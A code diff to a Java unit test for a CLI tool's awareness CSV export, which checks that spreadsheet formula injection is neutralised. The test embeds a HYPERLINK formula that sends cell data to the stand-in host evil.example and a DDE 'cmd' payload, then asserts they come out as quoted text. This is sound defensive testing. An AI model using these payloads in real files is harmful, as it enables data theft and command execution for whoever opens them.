@@ -4,8 +4,13 @@ import static io.zonewarden.app.cli.ValidateCommandTest.EXAMPLE;
 import static io.zonewarden.app.cli.ValidateCommandTest.zonewarden;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.io.StringReader;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.util.ArrayList;
+import org.apache.commons.csv.CSVFormat;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
 
 /** {@code zonewarden awareness}: who is due, coverage, trend and campaigns, as text, JSON and CSV. */
 class AwarenessCommandTest {
@@ -98,8 +103,26 @@ class AwarenessCommandTest {
     }
 
     @Test
-    void givenCellWithCommaAndQuote_whenWrittenAsCsv_thenQuoted() {
-        assertThat(AwarenessCommand.csvCell("Integrator, \"external\"")).isEqualTo("\"Integrator, \"\"external\"\"\"");
-        assertThat(AwarenessCommand.csvCell("plain")).isEqualTo("plain");
+    void givenFormulasInNamesAndDepartments_whenCsv_thenCellsAreTextNotFormulas(@TempDir Path dir) throws Exception {
+        // a plant's people come from model files and imports that others write: what they hold must not run in the
+        // spreadsheet of whoever opens the mail-merge export
+        var yaml = Files.readString(Path.of(EXAMPLE))
+                .replace(
+                        "{id: h.tanaka, name: Hiro Tanaka, department: Maintenance,",
+                        "{id: h.tanaka, name: '=HYPERLINK(\"http://evil.example/?\"&A1,\"Hiro\")',"
+                                + " department: \"+cmd|' /C calc'!A0\",");
+        var plant = dir.resolve("plant.yaml");
+        Files.writeString(plant, yaml);
+
+        var run = zonewarden("awareness", plant.toString(), "--as-of", "2026-11-26", "--format", "csv");
+
+        assertThat(run.exitCode()).isEqualTo(ZoneWarden.OK);
+        var rows = CSVFormat.RFC4180.parse(new StringReader(run.out())).getRecords();
+        var tanaka = rows.stream().filter(r -> r.get(0).equals("h.tanaka")).toList();
+        assertThat(tanaka).hasSize(2).allSatisfy(r -> {
+            assertThat(r.get(1)).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Hiro\")");
+            assertThat(r.get(3)).isEqualTo("'+cmd|' /C calc'!A0");
+        });
+        assertThat(run.out()).doesNotContain(",=HYPERLINK", ",+cmd");
     }
 }
